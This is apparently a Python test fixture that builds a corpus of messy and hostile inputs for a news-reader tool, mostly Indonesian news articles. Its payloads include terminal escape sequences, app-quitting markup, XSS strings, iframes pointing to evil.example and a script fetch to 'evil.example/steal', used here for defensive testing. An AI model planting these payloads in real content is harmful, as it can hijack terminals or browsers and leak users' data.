"""The bad-input corpus, built on the fly (nothing binary is committed).

``build_bad_corpus(root)`` writes every kind of messy or hostile input the
issue lists into ``root`` and returns a :class:`BadCorpus` that says, for
every file, whether newsreader must read it (``good``) or report it
(``bad``), so the tests can check "every bad file reported once, every good
file present" without re-deriving the expectation.

The articles are ordinary Indonesian news prose written for these tests;
nothing here depends on the bundled seeds.
"""

from __future__ import annotations

import codecs
import os
import random
from dataclasses import dataclass, field
from pathlib import Path

# -- injection payloads ------------------------------------------------------

#: Terminal escape sequences and control characters: must be stripped.
ESCAPE_PAYLOADS: dict[str, str] = {
    "osc_title": "\x1b]0;pwned\x07",
    "osc_title_st": "\x1b]2;pwned-too\x1b\\",
    "osc8_link": "\x1b]8;;http://evil.example/\x1b\\klik\x1b]8;;\x1b\\",
    "csi_red": "\x1b[31m",
    "csi_clear": "\x1b[2J\x1b[H",
    "csi_8bit": "\x9b31m",
    "osc_8bit": "\x9d0;pwned-c1\x9c",
    "c0": "\x01\x02\x07\x08\x0e\x1f\x7f",
    "c1": "\x80\x8d\x90\x9a\x9f",
}
#: Rich/Textual markup: must show as these exact characters, never styled or run.
MARKUP_PAYLOADS: dict[str, str] = {
    "rich_bold": "[bold red]merah[/]",
    "rich_link": "[link=http://x]x[/link]",
    "textual_click": "[@click=app.quit]keluar[/]",
}
#: HTML as plain article text: must stay text in every export style, never live HTML.
HTML_PAYLOADS: dict[str, str] = {
    "script": '<script>alert("xss")</script>',
    "img": "<img src=x onerror=alert(1)>",
}
#: Strings that must never reach stdout, stderr, the screen or an export.
FORBIDDEN_SUBSTRINGS = ("pwned", "http://evil.example")

# -- ordinary Indonesian news prose -------------------------------------------

PARAGRAPHS = (
    "SURABAYA -- Banjir merendam sedikitnya 1.200 rumah di tiga kecamatan di Surabaya "
    "setelah hujan deras mengguyur kota itu sejak Minggu (3/3/2024) malam.",
    "Kepala Badan Penanggulangan Bencana Daerah Jawa Timur, Budi Santoso, mengatakan "
    "ketinggian air mencapai 80 sentimeter di beberapa titik.",
    "Pemerintah kota menyiapkan 15 posko pengungsian dan dapur umum bagi warga yang "
    "terdampak. Bantuan logistik mulai disalurkan pada Senin pagi.",
    "Menurut Badan Meteorologi, Klimatologi, dan Geofisika, curah hujan tinggi masih "
    "berpotensi terjadi hingga akhir pekan di wilayah Jawa Timur.",
    "Wali Kota Surabaya meminta warga di bantaran sungai untuk tetap waspada dan segera "
    "mengungsi bila air kembali naik.",
)


def article_text(title: str, paragraphs: tuple[str, ...] = PARAGRAPHS) -> str:
    """A plain-text article: title line, blank line, paragraphs."""
    return title + "\n\n" + "\n\n".join(paragraphs) + "\n"


def injection_article() -> str:
    """Normal Indonesian news text with every injection payload inside it."""
    e, m = ESCAPE_PAYLOADS, MARKUP_PAYLOADS
    title = f"Festival Budaya {m['rich_bold']} di Bandung{e['osc_title']} Ramai Pengunjung"
    paragraphs = (
        f"BANDUNG -- Festival budaya tahunan di Bandung{e['osc_title_st']} dibuka pada "
        f"Sabtu (9/3/2024) dan dihadiri {e['csi_red']}sekitar 20.000 pengunjung.",
        f"Panitia menyebut warna {m['rich_bold']} menjadi tema panggung utama tahun ini, "
        f"dan situs resmi {m['rich_link']} sempat tidak dapat diakses.",
        f"Seorang pengunjung berkata bahwa tombol {m['textual_click']} di layar "
        f"informasi{e['csi_8bit']} membingungkan.{e['csi_clear']}",
        f"Gubernur Jawa Barat Ridwan Hidayat menyebut{e['c0']} festival ini "
        f"menarik wisatawan{e['c1']} dari Malaysia dan Singapura.{e['osc_8bit']}",
        f"Informasi lengkap tersedia di {e['osc8_link']} situs panitia.",
        f"Akun itu menulis {HTML_PAYLOADS['script']} dan {HTML_PAYLOADS['img']} di kolom "
        "komentar situs festival.",
        # Ordinary paragraphs: a real article carries its payloads among normal
        # prose, and the loader treats text dense with controls as binary.
        *PARAGRAPHS[1:],
    )
    return article_text(title, paragraphs)


HTML_PAGE = """<!DOCTYPE html>
<html lang="id"><head>
<meta charset="utf-8">
<title>Harga Beras Naik di Pasar Tradisional [@click=app.quit]x[/]</title>
<meta property="og:site_name" content="Kabar [bold]Kota[/bold]">
<style>body {{ color: red }} .iklan {{ display: none }}</style>
<script>document.title = "\\x1b]0;pwned\\x07"; alert("pwned");</script>
</head><body>
<nav><a href="/">Beranda</a> | <a href="/ekonomi">Ekonomi</a></nav>
<iframe src="http://evil.example/iframe"></iframe>
<article>
<h1>Harga Beras Naik di Pasar Tradisional</h1>
<p>MEDAN -- Harga beras medium di pasar tradisional Medan naik menjadi Rp 14.500 per
kilogram pada Selasa (5/3/2024), tertinggi dalam setahun terakhir.</p>
<script>fetch("http://evil.example/steal")</script>
<p>Seorang pedagang di Pasar Petisah, Siti Aminah, mengatakan pasokan dari Jawa
berkurang sejak bulan lalu sehingga harga terus merangkak naik.</p>
<iframe src="javascript:alert(1)"></iframe>
<p>Dinas Perdagangan Sumatera Utara berjanji menggelar operasi pasar di 20 titik
mulai pekan depan untuk menekan harga.</p>
<p>Pemerintah provinsi juga meminta distributor tidak menimbun stok beras.</p>
</article>
<footer>Hak cipta 2024</footer>
</body></html>
"""

MARKDOWN_PAGE = """---
title: "Kereta Cepat [@click=app.quit]Tambah[/] Jadwal"
outlet: "Warta [link=http://x]Rel[/link]"
date: 2024-03-06
---

# Kereta Cepat Tambah Jadwal Perjalanan

<div class="iklan"><script>alert("pwned")</script>Iklan</div>

BANDUNG -- Operator kereta cepat menambah **12 perjalanan** per hari mulai Rabu
(6/3/2024) untuk melayani lonjakan penumpang menjelang libur panjang.

<iframe src="http://evil.example/"></iframe>

Direktur operasional, <b>Andi Pratama</b>, mengatakan jumlah penumpang naik
<span style="color:red">30 persen</span> dibandingkan bulan lalu.

<style>p { display:none }</style>

Tiket dapat dibeli melalui aplikasi resmi dan loket di stasiun.
"""


def nested_html(depth: int) -> str:
    """An HTML page whose article paragraph sits ``depth`` elements deep."""
    opening = "<div>" * depth
    closing = "</div>" * depth
    body = "".join(f"<p>{p}</p>" for p in PARAGRAPHS)
    return (
        "<html><head><title>Banjir di Surabaya</title></head><body>"
        f"{opening}<article><h1>Banjir di Surabaya</h1>{body}</article>{closing}"
        "</body></html>"
    )


# -- the corpus ----------------------------------------------------------------


@dataclass
class BadCorpus:
    """What was written, and what newsreader must make of it.

    Attributes:
        root: The folder to hand to newsreader.
        good: Path (as the loader reports it) -> article id expected.
        bad: Paths the loader must report, each exactly once.
        unreadable: The chmod-000 file (in neither ``good`` nor ``bad``: whether it
            can be read depends on who reads it; see :meth:`expected`).
        injection_id: Id of the article carrying every payload.
        big_line_id: Id of the article that is one 1 MB line.
    """

    root: Path
    good: dict[str, str] = field(default_factory=dict)
    bad: set[str] = field(default_factory=set)
    unreadable: str = ""
    injection_id: str = "injeksi"
    big_line_id: str = "satu-baris-1mb"

    def expected(self, *, modes_enforced: bool) -> tuple[dict[str, str], set[str]]:
        """Good (path -> id) and bad paths for a reader that does or does not obey file modes."""
        good, bad = dict(self.good), set(self.bad)
        if modes_enforced:
            bad.add(self.unreadable)
        else:
            good[self.unreadable] = "terkunci"
        return good, bad

    def add_good(self, path: Path, article_id: str) -> None:
        self.good[str(path)] = article_id

    def add_bad(self, path: Path) -> None:
        self.bad.add(str(path))


def _write(path: Path, data: str | bytes, encoding: str = "utf-8") -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode(encoding) if isinstance(data, str) else data)
    return path


def write_big_text(path: Path, size: int) -> Path:
    """Write ``size`` bytes of prose quickly: one 1 MB block written repeatedly."""
    block = article_text("Berita Panjang").encode("utf-8")
    block = (block * (1_000_000 // len(block) + 1))[:1_000_000]
    with open(path, "wb") as handle:
        for _ in range(size // len(block)):
            handle.write(block)
        handle.write(block[: size % len(block)])
    return path


def one_line_text(size: int) -> str:
    """``size`` characters of prose with no line break at all."""
    line = " ".join(PARAGRAPHS[1:]) + " "
    return "Berita Satu Baris " + (line * (size // len(line) + 1))[: size - 18]


def build_bad_corpus(root: Path) -> BadCorpus:
    """Write the whole bad-input corpus under ``root``.

    Args:
        root: An empty folder.

    Returns:
        The corpus and the expected outcome of every file.
    """
    corpus = BadCorpus(root)
    rng = random.Random(7)

    # Good articles in every encoding and format newsreader promises to read.
    corpus.add_good(_write(root / "banjir.txt", article_text("Banjir Rendam Surabaya")), "banjir")
    corpus.add_good(_write(root / "injeksi.txt", injection_article()), "injeksi")
    corpus.add_good(_write(root / "harga-beras.html", HTML_PAGE), "harga-beras")
    corpus.add_good(_write(root / "kereta.md", MARKDOWN_PAGE), "kereta")
    utf16 = article_text("Gempa Guncang Sulawesi Tengah")
    corpus.add_good(_write(root / "utf16-bom.txt", utf16, "utf-16"), "utf16-bom")
    corpus.add_good(_write(root / "utf16-le.txt", utf16, "utf-16-le"), "utf16-le")
    corpus.add_good(_write(root / "utf16-be.txt", utf16, "utf-16-be"), "utf16-be")
    cp1252 = article_text("“Kafe” di Jakarta – Harga Kopi Naik", PARAGRAPHS[:3])
    corpus.add_good(_write(root / "cp1252.txt", cp1252, "cp1252"), "cp1252")
    corpus.add_good(_write(root / "bersarang.html", nested_html(2_000)), "bersarang")
    corpus.add_good(
        _write(root / f"{corpus.big_line_id}.txt", one_line_text(1_000_000)), corpus.big_line_id
    )

    # File names a careless shell script would choke on.
    names = {
        "berita dengan spasi.txt": "berita dengan spasi",
        "baris\nbaru.txt": "baris baru",
        "Berita Ñusantara – 日本語 é.md": "Berita Ñusantara – 日本語 é",
        "nama \x1b]0;pwned\x07judul \x1b[31m[bold]x.txt": "nama judul [bold]x",
        "berita \x9b31m c1 \x85 nel.txt": "berita c1 nel",
        "readme.txt": "readme",
        "con.txt": "con",
    }
    for index, (name, article_id) in enumerate(names.items()):
        text = article_text(f"Berita Nama Aneh {index}", PARAGRAPHS[index % 3 : index % 3 + 3])
        corpus.add_good(_write(root / "nama" / name, text), article_id)

    # Bad files: each must be reported once, with a one-line reason.
    corpus.add_bad(_write(root / "kosong.txt", b""))
    corpus.add_bad(_write(root / "spasi-saja.md", " \n\t\n\u200b\n"))
    corpus.add_bad(_write(root / "gambar.txt", b"\x89PNG\r\n\x1a\n" + rng.randbytes(4_000)))
    corpus.add_bad(_write(root / "acak.html", rng.randbytes(8_000)))
    corpus.add_bad(
        _write(
            root / "utf8-rusak.txt", article_text("Harga Cabai Naik").encode() + b"\x93\xff\xfe\x80"
        )
    )
    corpus.add_bad(write_big_text(root / "besar-50mb.txt", 50_000_000))
    # A newline and markup in a bad file's name: its error line must stay one line.
    corpus.add_bad(_write(root / "nama" / "rusak\n[red]baris.txt", b"\x00\x01\x02" * 500))

    # Links: a folder loop, a self loop and a dangling link.
    loops = root / "tautan"
    corpus.add_good(
        _write(loops / "di-dalam.txt", article_text("Jalan Tol Baru Dibuka")), "di-dalam"
    )
    (loops / "putaran").symlink_to(loops, target_is_directory=True)
    corpus.add_bad(loops / "putaran")
    (loops / "diri.txt").symlink_to(loops / "diri.txt")
    corpus.add_bad(loops / "diri.txt")
    (loops / "hilang.txt").symlink_to(loops / "tidak-ada.txt")
    corpus.add_bad(loops / "hilang.txt")

    # A file the user may not read.
    locked = _write(root / "terkunci.txt", article_text("Rahasia Negara Bocor"))
    locked.chmod(0)
    corpus.unreadable = str(locked)

    # Files of other types inside a folder are skipped silently, not reported.
    _write(root / "lain" / "catatan.pdf", b"%PDF-1.4 " + rng.randbytes(200))
    _write(root / "lain" / "data.json", '{"a": 1}')
    return corpus


def build_many_files(root: Path, count: int, *, good_every: int = 1) -> list[str]:
    """Write ``count`` small files; every ``good_every``-th is an article, the rest junk.

    Junk cycles through empty files, whitespace-only files and binary bytes.

    Returns:
        The ids of the good articles, in path order.
    """
    root.mkdir(parents=True, exist_ok=True)
    junk = (b"", b"  \n\n ", b"\x00\x01\x02\x03" * 8)
    good: list[str] = []
    towns = ("Medan", "Padang", "Makassar", "Manado", "Kupang", "Ambon", "Jayapura")
    for index in range(count):
        name = f"berita-{index:05d}.txt"
        if index % good_every == 0:
            town = towns[index % len(towns)]
            body = (
                f"Rapat Warga {town} Nomor {index}\n\n"
                f"{town.upper()} -- Sebanyak {index + 10} warga menghadiri rapat desa "
                f"ke-{index} di {town} pada Senin pagi untuk membahas perbaikan jalan.\n"
            )
            data = body.encode()
            good.append(name.removesuffix(".txt"))
        else:
            data = junk[index % len(junk)]
        # os.open/os.write: about twice as fast as Path.write_bytes for 10k files.
        handle = os.open(root / name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        try:
            os.write(handle, data)
        finally:
            os.close(handle)
    return good


def utf16_without_bom_is_not_bom(path: Path) -> bool:
    """True when the file really lacks a BOM (guards the corpus itself)."""
    head = path.read_bytes()[:2]
    return head not in (codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE)
